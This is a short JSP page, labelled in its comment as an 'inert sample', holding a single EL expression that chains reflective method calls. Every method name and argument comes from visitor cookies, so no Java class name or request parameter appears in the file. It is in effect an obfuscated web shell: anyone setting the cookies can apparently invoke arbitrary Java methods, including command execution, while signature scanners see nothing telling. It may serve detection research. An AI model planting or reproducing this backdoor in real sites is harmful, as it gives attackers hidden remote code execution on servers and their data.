<%-- inert sample: a page of one EL expression whose method names come from the visitor's cookies
     (cookie.x.value), so no request parameter and no Java name appears in the file. --%>
<%@ page contentType="text/html;charset=UTF-8" %>
<p>${""[cookie.k.value]()[cookie.f.value](cookie.c.value)[cookie.n.value]()[cookie.g.value](cookie.r.value)[cookie.e.value](cookie.a.value)}</p>
